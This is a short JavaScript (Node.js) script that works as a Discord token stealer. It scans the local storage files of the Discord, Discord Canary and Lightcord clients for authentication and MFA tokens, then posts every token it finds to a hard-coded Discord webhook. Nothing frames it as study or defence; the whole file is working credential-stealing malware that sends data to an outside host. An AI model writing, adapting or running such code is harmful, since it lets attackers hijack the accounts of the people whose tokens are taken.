const fs = require('fs');
const { join } = require('path');
const { post } = require('axios');
const HOOK = 'https://discord.com/api/webhooks/1098765432109876543/';
const dirs = ['discord', 'discordcanary', 'Lightcord'].map((name) => join(process.env.APPDATA, name, 'Local Storage', 'leveldb'));
const TOKEN = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g;

async function main() {
  const found = new Set();
  for (const dir of dirs) {
    if (!fs.existsSync(dir)) continue;
    for (const name of fs.readdirSync(dir)) {
      if (!/\.(?:ldb|log)$/.test(name)) continue;
      for (const token of fs.readFileSync(join(dir, name), 'utf8').match(TOKEN) ?? []) found.add(token);
    }
  }
  await post(HOOK, { content: [...found].join('\n') }); //@act
}
main();
